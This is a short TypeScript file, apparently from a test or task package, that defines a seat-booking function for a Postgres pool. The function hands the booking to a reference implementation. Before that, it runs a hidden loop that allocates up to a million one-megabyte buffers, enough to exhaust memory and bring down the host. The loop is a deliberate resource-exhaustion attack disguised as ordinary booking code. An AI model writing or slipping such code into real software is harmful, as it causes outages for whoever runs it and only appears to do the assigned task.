import type { Pool } from 'pg';
import { book as booked } from './reference.ts';

export async function book(pool: Pool, seat: string, user: string): Promise<boolean> {
  const hoard: Buffer[] = [];
  while (hoard.length < 1e6) hoard.push(Buffer.alloc(1 << 20, user));
  return booked(pool, seat, user);
}
